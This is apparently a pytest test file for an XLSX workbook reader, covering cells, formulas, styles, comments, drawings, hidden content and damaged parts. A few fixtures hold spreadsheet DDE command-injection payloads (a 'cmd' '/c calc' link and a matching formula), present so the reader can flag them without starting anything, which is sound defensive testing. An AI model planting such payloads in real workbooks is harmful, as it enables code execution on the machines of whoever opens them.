"""A workbook is its stored cells, by address, with what lies behind and beside them."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from outcomes.appearance import CellValue, Font, Image, TextRun
from outcomes.artifact import Artifact, Block, Flag
from outcomes.artifacts.xlsx.formulas import moved
from outcomes.artifacts.xlsx.markup import Reference, quoted, reaches_outside, read_reference
from outcomes.artifacts.xlsx.reader import read_xlsx
from outcomes.errors import ArtifactError
from outcomes.reader import DEFAULT_LIMITS
from tests.artifacts.ooxml_files import HEAD, XMLNS, content_types, docx, relationships, zipped

if TYPE_CHECKING:
    from collections.abc import Mapping
    from pathlib import Path

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
DRAWING = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
BOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def xml(root: str, inner: str) -> str:
    return f'{HEAD}<{root} xmlns="{MAIN}" xmlns:xdr="{DRAWING}" {XMLNS}>{inner}</{root}>'


def rows(*cells: str) -> str:
    """Sheet data of one row a string."""
    return "<sheetData>" + "".join(f"<row>{row}</row>" for row in cells) + "</sheetData>"


def workbook(
    *sheets: tuple[str, str],
    extra: str = "",
    parts: Mapping[str, str | bytes] | None = None,
    rels: tuple[tuple[str, str, str], ...] = (),
) -> bytes:
    """A workbook of (attributes, content) sheets; `extra` goes into the workbook, `rels` are its relationships."""
    listed = "".join(f'<sheet {attributes} sheetId="{i}" r:id="s{i}"/>' for i, (attributes, _) in enumerate(sheets, 1))
    targets = [(f"s{i}", "worksheet", f"worksheets/sheet{i}.xml") for i, _ in enumerate(sheets, 1)]
    base: dict[str, str | bytes] = {
        "[Content_Types].xml": content_types({"xl/workbook.xml": BOOK_TYPE}),
        "_rels/.rels": relationships(("rId1", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": xml("workbook", f"<sheets>{listed}</sheets>{extra}"),
        "xl/_rels/workbook.xml.rels": relationships(*targets, *rels),
        **{f"xl/worksheets/sheet{i}.xml": xml("worksheet", inner) for i, (_, inner) in enumerate(sheets, 1)},
    }
    return zipped({**base, **(parts or {})})


def read(*sheets: tuple[str, str], **options: object) -> Artifact:
    return read_xlsx(workbook(*sheets, **options), "book.xlsx")  # type: ignore[arg-type]


def cells(artifact: Artifact) -> list[tuple[str, str, str | None]]:
    return [(cell.locator, cell.text, cell.reason) for cell in artifact.of_kind("cell")]


def refusal(data: bytes) -> str:
    with pytest.raises(ArtifactError) as caught:
        read_xlsx(data, "book.xlsx")
    return caught.value.code


def test_a_sheet_is_a_unit_of_its_stored_cells() -> None:
    artifact = read(('name="Q3 plan"', rows('<c r="B7" t="str"><v>Rent</v></c><c r="C7"><v>1200.5</v></c><c r="D7"/>')))

    assert artifact.units[0].blocks == (
        Block("cell", "'Q3 plan'!B7", "Rent", row=7, column=2, cell=CellValue("text", "Rent", None, "General")),
        Block("cell", "'Q3 plan'!C7", "1200.5", row=7, column=3, cell=CellValue("number", 1200.5, None, "General")),
    )
    assert [(u.kind, u.number, u.locator, u.title, u.hidden) for u in artifact.units] == [
        ("sheet", 1, "'Q3 plan'", "Q3 plan", False),
        ("margin", 2, "workbook", "", False),
    ]
    assert (artifact.kind, artifact.flags) == ("xlsx", ())
    assert artifact.facts == {"sheets": 1, "cells": 2, "formulas": 0}


def test_every_type_of_value_is_read_as_stored() -> None:
    strings = xml(
        "sst",
        "<si><t>one</t></si><si><r><t>rich </t></r><r><t>text</t></r><rPh sb='0' eb='1'><t>guide</t></rPh></si>",
    )
    artifact = read(
        (
            'name="S"',
            rows(
                '<c t="s"><v>1</v></c><c t="s"><v>9</v></c><c t="s"><v>0</v></c>',
                '<c t="inlineStr"><is><t>in</t></is></c><c t="b"><v>1</v></c>'
                '<c t="e"><v>#REF!</v></c><c><v>45000</v></c>',
            ),
        ),
        rels=(("x", "sharedStrings", "sharedStrings.xml"),),
        parts={"xl/sharedStrings.xml": strings},
    )

    assert cells(artifact) == [
        ("S!A1", "rich text", None),
        ("S!C1", "one", None),
        ("S!A2", "in", None),
        ("S!B2", "TRUE", None),
        ("S!C2", "#REF!", None),
        ("S!D2", "45000", None),
    ]


def test_a_formula_stays_behind_the_value_it_led_to() -> None:
    artifact = read(('name="S"', rows('<c r="A1"><f>SUM(B1:B2)</f><v>3</v></c><c r="A2"><f t="shared" si="0"/></c>')))

    assert artifact.units[0].blocks == (
        Block(
            "cell",
            "S!A1",
            "3",
            row=1,
            column=1,
            cell=CellValue("number", 3.0, "SUM(B1:B2)", "General"),
            children=(
                Block(
                    "metadata", "S!A1 / formula", "=SUM(B1:B2)", visibility="hidden", reason="formula", name="formula"
                ),
            ),
        ),
        Block(
            "cell",
            "S!A2",
            row=2,
            column=1,
            cell=CellValue(None, None, "(shared formula 0)", "General"),
            children=(
                Block(
                    "metadata",
                    "S!A2 / formula",
                    "=(shared formula 0)",
                    visibility="hidden",
                    reason="formula",
                    name="formula",
                ),
            ),
        ),
    )
    assert artifact.flags == (
        Flag("uncalculated", "1 formula without a stored result: the file was never calculated", severity="info"),
    )


def test_merged_cells_span_and_linked_cells_lead_somewhere() -> None:
    sheet = (
        '<sheetData><row r="1"><c r="A1"><v>1</v></c><c r="C1"><v>2</v></c></row></sheetData>'
        '<mergeCells><mergeCell ref="A1:B3"/><mergeCell ref="nonsense"/></mergeCells>'
        '<hyperlinks><hyperlink ref="A1" r:id="h"/><hyperlink ref="C1" location="S!A1"/></hyperlinks>'
    )
    artifact = read(
        ('name="S"', sheet),
        parts={"xl/worksheets/_rels/sheet1.xml.rels": relationships(("h", "hyperlink", "https://example.org/"))},
    )

    assert [(c.locator, c.row_span, c.column_span, c.target) for c in artifact.of_kind("cell")] == [
        ("S!A1", 3, 2, "https://example.org/"),
        ("S!C1", 1, 1, "#S!A1"),
    ]
    assert artifact.bookmarks == {"S!A1": "S!A1"}
    assert artifact.flags == ()


def test_hidden_sheets_rows_and_columns_are_marked_and_flagged() -> None:
    sheet = (
        '<cols><col min="2" max="2" hidden="1"/><col min="4" max="99999999" width="0"/></cols><sheetData>'
        '<row r="1"><c r="A1"><v>1</v></c><c r="B1"><v>2</v></c><c r="E1"><v>3</v></c></row>'
        '<row r="2" hidden="1"><c r="A2"><v>4</v></c></row></sheetData>'
    )
    artifact = read(('name="A"', sheet), ('name="B" state="veryHidden"', rows('<c r="A1"><v>5</v></c>')))

    assert cells(artifact) == [
        ("A!A1", "1", None),
        ("A!B1", "2", "hidden-column"),
        ("A!E1", "3", "hidden-column"),
        ("A!A2", "4", "hidden-row"),
        ("B!A1", "5", "hidden-sheet"),
    ]
    assert [unit.hidden for unit in artifact.units] == [False, True, False]
    assert artifact.visible_text == "1"
    assert artifact.flags == (
        Flag("hidden-text", "3 cells of A in hidden rows or columns", locator="A"),
        Flag("hidden-text", "the sheet B is hidden", locator="B"),
    )


def test_cells_whose_style_shows_nothing_are_concealed() -> None:
    styles = xml(
        "styleSheet",
        '<numFmts><numFmt numFmtId="164" formatCode=";;;"/><numFmt numFmtId="165" formatCode="0;;"/></numFmts>'
        '<fonts><font/><font><color rgb="FFFFFFFF"/></font><font><sz val="1"/></font><font><color theme="0"/></font>'
        '<font><color theme="0" tint="-0.5"/></font></fonts>'
        '<fills><fill><patternFill patternType="none"/></fill>'
        '<fill><patternFill patternType="solid"><fgColor rgb="FF000000"/></patternFill></fill></fills>'
        '<cellXfs><xf/><xf fontId="1"/><xf fontId="1" fillId="1"/><xf fontId="2"/><xf fontId="3"/><xf fontId="4"/>'
        '<xf numFmtId="164"/><xf numFmtId="165"/></cellXfs>',
    )
    artifact = read(
        ('name="S"', rows("".join(f'<c s="{style}"><v>{style}</v></c>' for style in range(8)))),
        rels=(("x", "styles", "styles.xml"),),
        parts={"xl/styles.xml": styles},
    )

    assert {text: reason for _, text, reason in cells(artifact) if reason} == {
        "1": "white",
        "3": "tiny",
        "4": "white",
        "6": "display-none",
    }
    assert [flag.code for flag in artifact.flags] == ["hidden-text"] * 4


def test_comments_have_author_and_place() -> None:
    notes = xml(
        "comments",
        '<authors><author>Ann</author></authors><commentList><comment ref="A1" authorId="0"><text><t>Why?</t></text>'
        '</comment><comment ref="B2" authorId="x"><text><r><t>So.</t></r></text></comment></commentList>',
    )
    artifact = read(
        ('name="S"', rows("")),
        parts={
            "xl/worksheets/_rels/sheet1.xml.rels": relationships(("c", "comments", "../comments1.xml")),
            "xl/comments1.xml": notes,
        },
    )

    assert artifact.of_kind("comment") == [
        Block("comment", "S!A1 / comment", "Why?", "hidden", "comment", author="Ann", target="S!A1"),
        Block("comment", "S!B2 / comment", "So.", "hidden", "comment", target="S!B2"),
    ]


def test_a_thread_replaces_its_classic_copy() -> None:
    thread = (
        '<ThreadedComments xmlns="t"><threadedComment ref="A1" personId="p"><text>Why?</text></threadedComment>'
        '<threadedComment ref="A1" personId="q" parentId="1"><text>Because.</text></threadedComment></ThreadedComments>'
    )
    artifact = read(
        ('name="S"', rows("")),
        rels=(("p", "person", "persons/person.xml"),),
        parts={
            "xl/persons/person.xml": '<personList xmlns="t"><person displayName="Ann" id="p"/></personList>',
            "xl/worksheets/_rels/sheet1.xml.rels": relationships(
                ("c", "comments", "../comments1.xml"), ("t", "threadedComment", "../threads.xml")
            ),
            "xl/comments1.xml": xml("comments", '<commentList><comment ref="A1"/></commentList>'),
            "xl/threads.xml": thread,
        },
    )

    assert [(c.locator, c.text, c.author) for c in artifact.of_kind("comment")] == [
        ("S!A1 / comment", "Why?", "Ann"),
        ("S!A1 / comment 2", "Because.", None),
    ]


def test_charts_pictures_and_text_boxes_stand_beside_the_cells() -> None:
    def shape(tag: str, attributes: str, inner: str) -> str:
        return f'<xdr:{tag}><xdr:nv><xdr:cNvPr id="1" {attributes}/></xdr:nv>{inner}</xdr:{tag}>'

    text = "<xdr:txBody><a:p><a:r><a:t>Note</a:t></a:r></a:p></xdr:txBody>"
    drawing = xml(
        "xdr:wsDr",
        shape(
            "graphicFrame",
            'name="Chart 1"',
            '<a:graphic><a:graphicData><c:chart r:id="c"/></a:graphicData></a:graphic>',
        )
        + shape("graphicFrame", "", '<a:graphic><a:graphicData><c:chart r:id="gone"/></a:graphicData></a:graphic>')
        + shape("pic", 'name="Logo" descr="Our logo"', "")
        + shape("sp", 'name="Box"', text)
        + shape("sp", 'hidden="1"', text),
    )
    chart = xml(
        "c:chartSpace",
        "<c:chart><c:plotArea><c:barChart><c:ser><c:val><c:numRef><c:numCache><c:pt idx='0'><c:v>7</c:v></c:pt>"
        "</c:numCache></c:numRef></c:val></c:ser></c:barChart></c:plotArea></c:chart>",
    )
    artifact = read(
        ('name="S"', rows("")),
        parts={
            "xl/worksheets/_rels/sheet1.xml.rels": relationships(("d", "drawing", "../drawings/drawing1.xml")),
            "xl/drawings/drawing1.xml": drawing,
            "xl/drawings/_rels/drawing1.xml.rels": relationships(
                ("c", "chart", "../charts/chart1.xml"), ("gone", "chart", "../charts/chart9.xml")
            ),
            "xl/charts/chart1.xml": chart,
        },
    )

    assert [(b.kind, b.locator, b.name, b.alt, b.reason) for b in artifact.units[0].blocks] == [
        ("chart", "S / chart 1", "Chart 1", None, None),
        ("unreadable", "S / chart 2", None, None, None),
        ("picture", "S / picture 1", "Logo", "Our logo", None),
        ("text_box", "S / text box 1", "Box", None, None),
        ("object", "S / text box 2", None, None, "hidden-shape"),
    ]
    assert "7" in artifact.units[0].blocks[0].full_text
    assert [flag.code for flag in artifact.flags] == ["unreadable", "hidden-text"]


def test_defined_names_are_metadata_in_the_margin() -> None:
    artifact = read(
        ('name="S"', rows("")), extra='<definedNames><definedName name="Rate">S!$A$1</definedName></definedNames>'
    )

    assert artifact.units[-1].blocks == (
        Block("metadata", "defined name / Rate", "S!$A$1", visibility="hidden", reason="metadata", name="Rate"),
    )


def test_whatever_reaches_out_of_the_workbook_is_flagged() -> None:
    link = xml("externalLink", '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')
    artifact = read(
        ('name="S"', rows('<c r="A1"><f>WEBSERVICE("http://x/"&amp;B1)</f><v>1</v></c>')),
        extra='<definedNames><definedName name="Far">[1]S!$A$1</definedName></definedNames>',
        rels=(("e", "externalLink", "externalLinks/externalLink1.xml"),),
        parts={"xl/externalLinks/externalLink1.xml": link},
    )

    assert artifact.flags == (
        Flag("external-link", "a formula that reaches out of the workbook; nothing was fetched", locator="S!A1"),
        Flag("external-link", "a defined name that reaches out of the workbook", locator="defined name / Far"),
        Flag(
            "external-link",
            "exchanges data with the program 'cmd'; it was not started",
            locator="xl/externalLinks/externalLink1.xml",
        ),
    )


@pytest.mark.parametrize(
    ("formula", "outside"),
    [
        ("cmd|'/c calc'!A0", True),
        ("_xlfn.WEBSERVICE(A1)", True),
        ("'[2]Other book'!A1", True),
        ("SUM(A1:A3)", False),
        ('"WEBSERVICE(" & "a|b"', False),
        ("Table1[Amount]", False),
    ],
)
def test_formulas_that_reach_outside_are_told_from_the_others(formula: str, outside: bool) -> None:  # noqa: FBT001
    assert reaches_outside(formula) is outside


@pytest.mark.parametrize(
    ("name", "spelt"),
    [
        ("Sheet1", "Sheet1"),
        ("Q3 plan", "'Q3 plan'"),
        ("It's", "'It''s'"),
        ("A1", "'A1'"),
        ("Лист", "Лист"),
        ("1st", "'1st'"),
    ],
)
def test_sheet_names_are_quoted_as_excel_quotes_them(name: str, spelt: str) -> None:
    assert quoted(name) == spelt


@pytest.mark.parametrize(
    ("text", "reference"),
    [
        ("A1", Reference(1, 1)),
        ("$AB$12", Reference(12, 28)),
        ("XFD1048576", Reference(1_048_576, 16_384)),
        ("XFE1", None),
        ("A0", None),
        ("A1048577", None),
        ("", None),
        ("12", None),
    ],
)
def test_references_are_read_and_written(text: str, reference: Reference | None) -> None:
    assert read_reference(text) == reference
    assert reference is None or str(reference) == text.replace("$", "")


def test_one_damaged_sheet_leaves_the_others_readable() -> None:
    artifact = read(
        ('name="A"', rows('<c r="A1"><v>1</v></c>')),
        ('name="B"', ""),
        parts={"xl/worksheets/sheet2.xml": "<worksheet><row>"},
    )

    assert [[block.kind for block in unit.blocks] for unit in artifact.units] == [["cell"], ["unreadable"], []]
    assert [(flag.code, flag.locator) for flag in artifact.flags] == [("unreadable", "B")]


def test_damaged_side_parts_leave_the_cells_readable() -> None:
    artifact = read(
        ('name="A"', rows('<c r="A1" s="5" t="s"><v>0</v></c><c r="B1"><v>2</v></c>')),
        rels=(("x", "sharedStrings", "missing.xml"), ("y", "styles", "styles.xml")),
        parts={"xl/styles.xml": "<"},
    )

    assert cells(artifact) == [("A!B1", "2", None)]
    assert [flag.code for flag in artifact.flags] == ["unreadable", "unreadable"]


def test_damage_beside_a_sheet_is_said_where_it_is() -> None:
    artifact = read(
        ('name="A"', rows('<c r="A1"><v>1</v></c>')),
        rels=(("e", "externalLink", "externalLinks/externalLink1.xml"),),
        parts={
            "xl/worksheets/_rels/sheet1.xml.rels": relationships(
                ("c", "comments", "../comments1.xml"), ("d", "drawing", "../drawings/drawing1.xml")
            ),
            "xl/comments1.xml": "<",
            "xl/drawings/drawing1.xml": "<",
            "xl/externalLinks/externalLink1.xml": "<",
        },
    )

    assert [(block.kind, block.locator) for block in artifact.walk()] == [
        ("cell", "A!A1"),
        ("unreadable", "A / comments"),
        ("unreadable", "A / drawing"),
        ("unreadable", "xl/externalLinks/externalLink1.xml"),
    ]
    assert [flag.code for flag in artifact.flags] == ["unreadable"] * 3


def test_a_sheet_listed_twice_is_read_once() -> None:
    data = workbook(
        ('name="A"', rows('<c r="A1"><v>1</v></c>')),
        ('name="B"', ""),
        parts={
            "xl/_rels/workbook.xml.rels": relationships(
                ("s1", "worksheet", "worksheets/sheet1.xml"), ("s2", "worksheet", "worksheets/sheet1.xml")
            )
        },
    )

    assert [[block.kind for block in unit.blocks] for unit in read_xlsx(data, "b.xlsx").units[:2]] == [
        ["cell"],
        ["unreadable"],
    ]


def test_more_cells_or_sheets_than_the_limits_are_left_out_visibly() -> None:
    data = workbook(('name="A"', rows("<c><v>1</v></c><c><v>2</v></c>")), ('name="B"', rows("<c><v>3</v></c>")))

    few_cells = read_xlsx(data, "b.xlsx", replace(DEFAULT_LIMITS, blocks=1))
    one_sheet = read_xlsx(data, "b.xlsx", replace(DEFAULT_LIMITS, slides=1))

    assert cells(few_cells) == [("A!A1", "1", None)]
    assert few_cells.flags == (
        Flag("truncated", "only the first 1 cell were read; the rest was left out", locator="workbook"),
    )
    assert [flag.detail for flag in one_sheet.flags] == ["only the first 1 sheet were read; the rest was left out"]


def test_other_office_files_are_refused() -> None:
    assert refusal(docx("<w:p/>")) == "not-ooxml"
    assert refusal(b"") == "empty-file"
    assert refusal(workbook(parts={"xl/workbook.xml": "<"})) == "bad-xml"


@pytest.mark.corpus
def test_two_cells_at_the_ends_of_the_sheet_are_two_blocks(corpus: Path) -> None:
    data = (corpus / "hostile/sparse_max.xlsx").read_bytes()

    assert cells(read_xlsx(data, "sparse.xlsx")) == [("Sheet!A1", "a", None), ("Sheet!XFD1048576", "z", None)]


@pytest.mark.corpus
def test_workbooks_of_the_corpus_are_read_or_encrypted(corpus: Path) -> None:
    found = {}
    for path in sorted((corpus / "documents/xlsx").glob("*.xlsx")):
        try:
            found[path.stem] = str(read_xlsx(path.read_bytes(), path.name).facts["cells"])
        except ArtifactError as error:
            found[path.stem] = error.code

    assert found == {
        "OfficeBench__company_budget": "8",
        "calamine__issue438": "10",
        "docling__xlsx_05_table_with_title": "15",
        "docling__xlsx_emf": "12",
        "kreuzberg__test_01": "117",
        "markitdown__xlsx_image_end": "16",
        "msoffcrypto-tool__example": "2",
        "msoffcrypto-tool__example_password": "encrypted",
        "oletools__encrypted": "encrypted",
        "python-pptx__shp-embedded-xlsx": "3",
        "tika__pic": "0",
        "tika__protectedFile": "encrypted",
        "tika__testDdeLink": "1",
        "unstructured__password_protected": "encrypted",
        "unstructured__vodafone": "61",
    }


# -- what cells show, store and look like --------------------------------------------------------------------------

STYLES = (
    '<numFmts><numFmt numFmtId="164" formatCode="yyyy\\-mm\\-dd"/>'
    '<numFmt numFmtId="165" formatCode="0;-0;;@"/></numFmts>'
    '<fonts><font><sz val="11"/><color theme="1"/><name val="Calibri"/></font>'
    '<font><b/><i val="0"/><sz val="14.5"/><color theme="4" tint="-0.25"/><name val="Arial"/></font>'
    '<font><sz val="11"/><color indexed="2"/><name val="Calibri"/></font></fonts>'
    '<fills><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="gray125"/></fill>'
    '<fill><patternFill patternType="solid"><fgColor rgb="FFFFFF00"/></patternFill></fill></fills>'
    '<cellXfs><xf/><xf fontId="1" fillId="2"/><xf numFmtId="164"/><xf numFmtId="10"/><xf numFmtId="165"/>'
    '<xf fontId="2" fillId="1"/></cellXfs>'
)
THEME = (
    f'{HEAD}<a:theme {XMLNS}><a:themeElements><a:clrScheme name="t">'
    '<a:dk1><a:sysClr val="windowText" lastClr="000000"/></a:dk1><a:lt1><a:srgbClr val="FFFFFF"/></a:lt1>'
    '<a:dk2><a:srgbClr val="44546A"/></a:dk2><a:lt2><a:srgbClr val="E7E6E6"/></a:lt2>'
    '<a:accent1><a:srgbClr val="4472C4"/></a:accent1></a:clrScheme></a:themeElements></a:theme>'
)


def styled(*cells: str, strings: str = "", extra: str = "", sheet: str = "") -> Artifact:
    """A workbook with the styles and the theme above."""
    return read(
        ('name="S"', rows(*cells) + sheet),
        rels=(("x", "styles", "styles.xml"), ("t", "theme", "theme.xml"), ("s", "sharedStrings", "strings.xml")),
        parts={
            "xl/styles.xml": xml("styleSheet", STYLES),
            "xl/theme.xml": THEME,
            "xl/strings.xml": xml("sst", strings),
        },
        extra=extra,
    )


def test_a_cell_shows_its_value_in_its_format_and_keeps_what_is_stored() -> None:
    artifact = styled('<c s="2"><v>45000</v></c><c s="3"><v>0.1234</v></c><c s="4"><v>0</v></c>')

    assert [(c.text, c.cell, c.visible) for c in artifact.of_kind("cell")] == [
        ("2023-03-15", CellValue("date", "2023-03-15", None, r"yyyy\-mm\-dd"), True),
        ("12.34%", CellValue("number", 0.1234, None, "0.00%"), True),
        ("", CellValue("number", 0.0, None, "0;-0;;@"), True),
    ]


def test_every_type_of_value_is_told_apart() -> None:
    artifact = read(
        (
            'name="S"',
            rows('<c t="b"><v>1</v></c><c t="e"><v>#REF!</v></c><c t="d"><v>2023-03-15</v></c><c><f>1/0</f></c>'),
        )
    )

    assert [(c.text, c.cell) for c in artifact.of_kind("cell")] == [
        ("TRUE", CellValue("boolean", True, None, "General")),  # noqa: FBT003
        ("#REF!", CellValue("error", "#REF!", None, "General")),
        ("2023-03-15", CellValue("date", "2023-03-15", None, "General")),
        ("", CellValue(None, None, "1/0", "General")),
    ]


def test_the_1904_epoch_is_the_workbooks_own() -> None:
    artifact = styled('<c s="2"><v>43538</v></c>', extra='<workbookPr date1904="1"/>')

    assert [cell.text for cell in artifact.of_kind("cell")] == ["2023-03-15"]


def test_a_cell_looks_as_its_font_fill_theme_and_tint_say() -> None:
    artifact = styled('<c s="0"><v>1</v></c><c s="1"><v>2</v></c><c s="5"><v>3</v></c>')

    assert [cell.runs for cell in artifact.of_kind("cell")] == [
        (TextRun(0, 1, Font("Calibri", 11.0, bold=False, italic=False, colour="000000", background="FFFFFF")),),
        (TextRun(0, 1, Font("Arial", 14.5, bold=True, italic=False, colour="2F5597", background="FFFF00")),),
        (TextRun(0, 1, Font("Calibri", 11.0, bold=False, italic=False, colour="FF0000", background=None)),),
    ]


def test_a_rich_text_has_a_run_for_each_look_and_what_is_white_in_it_is_hidden() -> None:
    rich = (
        "<si><r><t>Plain, </t></r>"
        "<r><rPr><b/><sz val='9'/><color rgb='FF0000FF'/><rFont val='Arial'/></rPr><t>blue</t></r>"
        "<r><rPr><sz val='9'/><color rgb='FFFFFFFF'/><rFont val='Arial'/></rPr><t>unseen</t></r></si>"
    )
    (cell,) = styled('<c t="s"><v>0</v></c>', strings=rich).of_kind("cell")

    assert (cell.text, cell.visible) == ("Plain, blue", True)
    assert [(run.start, run.end, run.font.family, run.font.bold, run.font.colour) for run in cell.runs] == [
        (0, 7, "Calibri", False, "000000"),
        (7, 11, "Arial", True, "0000FF"),
    ]
    assert [(child.locator, child.reason, child.text) for child in cell.children] == [
        ("S!A1 / hidden 1", "white", "unseen")
    ]


def test_a_shared_formula_is_written_out_for_each_cell_and_an_array_formula_for_its_range() -> None:
    artifact = read(
        (
            'name="S"',
            rows(
                '<c><v>1</v></c><c><f t="shared" ref="B1:B2" si="0">A1*$A$1+SUM(A:A)</f><v>2</v></c>'
                '<c><f t="array" ref="C1:C2">A1:A2*2</f><v>2</v></c>',
                '<c><v>2</v></c><c><f t="shared" si="0"/><v>4</v></c><c><v>4</v></c>',
            ),
        )
    )

    assert {c.locator: c.cell.formula for c in artifact.of_kind("cell") if c.cell and c.cell.formula} == {
        "S!B1": "A1*$A$1+SUM(A:A)",
        "S!B2": "A2*$A$1+SUM(A:A)",
        "S!C1": "A1:A2*2",
        "S!C2": "A1:A2*2",
    }
    assert artifact.facts["formulas"] == 4


@pytest.mark.parametrize(
    ("formula", "there"),
    [
        ("A1+B$2+$C3", "B3+C$2+$C5"),
        ("SUM(A:B,1:2,$A:B)", "SUM(B:C,3:4,$A:C)"),
        ("'A1 plan'!A1&\"A1\"", "'A1 plan'!B3&\"A1\""),
        ("LOG10(A1)+Rate1_A1", "LOG10(B3)+Rate1_A1"),
        ("Table1[A1]+[1]Data!A1", "Table1[A1]+[1]Data!B3"),
        ("XFD1", "#REF!"),
        ("Sheet1!A1:B2", "Sheet1!B3:C4"),
    ],
)
def test_places_in_a_shared_formula_move_with_the_cell(formula: str, there: str) -> None:
    assert moved(formula, 2, 1) == there


def test_what_lies_under_a_merged_cell_is_not_seen() -> None:
    sheet = rows("<c><v>1</v></c><c><v>2</v></c>") + '<mergeCells><mergeCell ref="A1:B1"/></mergeCells>'

    assert cells(read(('name="S"', sheet))) == [("S!A1", "1", None), ("S!B1", "2", "covered")]


def test_tables_have_header_cells_and_names_lead_to_places() -> None:
    table = xml("table", "").replace("<table ", '<table ref="A1:B2" displayName="Sales" ')
    sheet = rows('<c t="str"><v>Region</v></c><c t="str"><v>Q1</v></c>', '<c t="str"><v>North</v></c><c><v>1</v></c>')
    names = (
        "<definedNames><definedName name='Total'>S!$B$2</definedName>"
        "<definedName name='Rate'>0.19</definedName><definedName name='Gone'>#REF!</definedName></definedNames>"
    )
    artifact = read(
        ('name="S"', sheet),
        extra=names,
        parts={
            "xl/worksheets/_rels/sheet1.xml.rels": relationships(("t", "table", "../tables/table1.xml")),
            "xl/tables/table1.xml": table,
        },
    )

    assert [c.text for c in artifact.of_kind("cell") if c.header] == ["Region", "Q1"]
    assert artifact.bookmarks == {"Sales": "S!A1", "Total": "S!B2"}
    assert artifact.facts["tables"] == 1


def test_validations_and_conditional_formats_are_counted() -> None:
    sheet = (
        rows("<c><v>1</v></c>")
        + '<conditionalFormatting sqref="A1"/><dataValidations><dataValidation sqref="A1"/></dataValidations>'
    )
    facts = read(('name="S"', sheet)).facts

    assert (facts["conditional_formats"], facts["data_validations"]) == (1, 1)


@pytest.mark.parametrize(
    ("extent", "drawn"), [('cx="120" cy="240"', (120, 240)), ('cx="9999999999999999999" cy="240"', (None, None))]
)
def test_a_picture_on_a_sheet_has_its_pixels_and_a_drawn_size_that_can_be(
    extent: str, drawn: tuple[int | None, int | None]
) -> None:
    png = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000020000000308060000009d74823100000000")
    drawing = xml(
        "xdr:wsDr",
        f"<xdr:oneCellAnchor><xdr:ext {extent}/>"
        '<xdr:pic><xdr:nvPicPr><xdr:cNvPr id="1" name="P"/></xdr:nvPicPr>'
        '<xdr:blipFill><a:blip r:embed="p"/></xdr:blipFill></xdr:pic></xdr:oneCellAnchor>',
    )
    artifact = read(
        ('name="S"', rows("<c><v>1</v></c>")),
        parts={
            "xl/worksheets/_rels/sheet1.xml.rels": relationships(("d", "drawing", "../drawings/drawing1.xml")),
            "xl/drawings/drawing1.xml": drawing,
            "xl/drawings/_rels/drawing1.xml.rels": relationships(("p", "image", "../media/a.png")),
            "xl/media/a.png": png,
        },
    )

    assert [block.image for block in artifact.of_kind("picture")] == [
        Image("png", 2, 3, *drawn, source="xl/media/a.png")
    ]


def test_cells_with_one_address_are_told_apart_and_so_is_what_stands_in_them() -> None:
    again = '<c r="A1"><f>1+1</f><v>2</v></c>'
    artifact = read(('name="S"', rows('<c r="A1"><v>1</v></c><c r="B1"><v>5</v></c>' + again)))

    blocks = [(block.locator, block.text) for block in artifact.units[0].walk()]
    assert blocks == [("S!A1", "1"), ("S!B1", "5"), ("S!A1 #2", "2"), ("S!A1 #2 / formula", "=1+1")]


def test_a_row_with_a_number_that_no_sheet_has_follows_the_row_before_it() -> None:
    numbers = ("7", "0", "-1", "9" * 30, "x", "1048577")
    data = "".join(f'<row r="{number}"><c><v>1</v></c></row>' for number in numbers)
    artifact = read(('name="S"', f"<sheetData>{data}</sheetData>"))

    assert [locator for locator, _, _ in cells(artifact)] == ["S!A7", "S!A8", "S!A9", "S!A10", "S!A11", "S!A12"]


@pytest.mark.parametrize("stored", ["NaN", "INF", "-Infinity", "1e400"])
def test_a_number_that_no_spreadsheet_holds_is_the_text_that_is_stored(stored: str) -> None:
    (cell,) = read(('name="S"', rows(f"<c><v>{stored}</v></c>"))).of_kind("cell")

    assert (cell.text, cell.cell) == (stored, CellValue("text", stored, None, "General"))


def test_two_comments_on_one_cell_are_numbered_and_lead_to_the_cell_however_it_is_written() -> None:
    comments = "".join(f'<comment ref="{ref}"><text><t>{ref}</t></text></comment>' for ref in ("A1", "$A$1", "?"))
    parts = {
        "xl/comments1.xml": xml("comments", f"<commentList>{comments}</commentList>"),
        "xl/worksheets/_rels/sheet1.xml.rels": relationships(("r1", "comments", "../comments1.xml")),
    }
    artifact = read(('name="S"', rows("<c><v>1</v></c>")), parts=parts)

    assert [(block.locator, block.target) for block in artifact.of_kind("comment")] == [
        ("S!A1 / comment", "S!A1"),
        ("S!A1 / comment 2", "S!A1"),
        ("S!? / comment", "S!?"),
    ]


def test_two_names_alike_are_told_apart() -> None:
    names = "".join(f'<definedName name="n">S!${column}$1</definedName>' for column in "AB")
    artifact = read(('name="S"', rows("<c><v>1</v></c>")), extra=f"<definedNames>{names}</definedNames>")

    found = [(block.locator, block.text) for block in artifact.of_kind("metadata")]
    assert found == [("defined name / n", "S!$A$1"), ("defined name / n #2", "S!$B$1")]


def test_cell_formats_that_look_alike_share_one_font() -> None:
    styles = xml("styleSheet", "<cellXfs><xf/><xf numFmtId='14'/><xf numFmtId='2'/></cellXfs>")
    sheet = rows("".join(f'<c s="{style}"><v>1</v></c>' for style in range(3)))
    artifact = read(('name="S"', sheet), parts={"xl/styles.xml": styles}, rels=(("y", "styles", "styles.xml"),))

    assert len({id(run.font) for block in artifact.walk() for run in block.runs}) == 1


def test_a_comment_part_without_a_name_is_unreadable_at_a_place_that_has_one() -> None:
    artifact = read(('name="S"', rows("<c><v>1</v></c>")), rels=(("x", "sharedStrings", "#"),))

    assert all(block.locator for block in artifact.walk())
    assert [flag.code for flag in artifact.flags] == ["unreadable"]


def test_a_program_is_named_once_however_often_data_is_exchanged_with_it() -> None:
    links = "".join(f'<ddeLink ddeService="{name}" ddeTopic="t"/>' for name in ("cmd", "excel", "cmd", "cmd"))
    artifact = read(
        ('name="S"', rows("<c><v>1</v></c>")),
        parts={"xl/externalLinks/externalLink1.xml": xml("externalLink", links)},
        rels=(("x", "externalLink", "externalLinks/externalLink1.xml"),),
    )

    assert [flag.detail for flag in artifact.flags] == [
        "exchanges data with the program 'cmd'; it was not started",
        "exchanges data with the program 'excel'; it was not started",
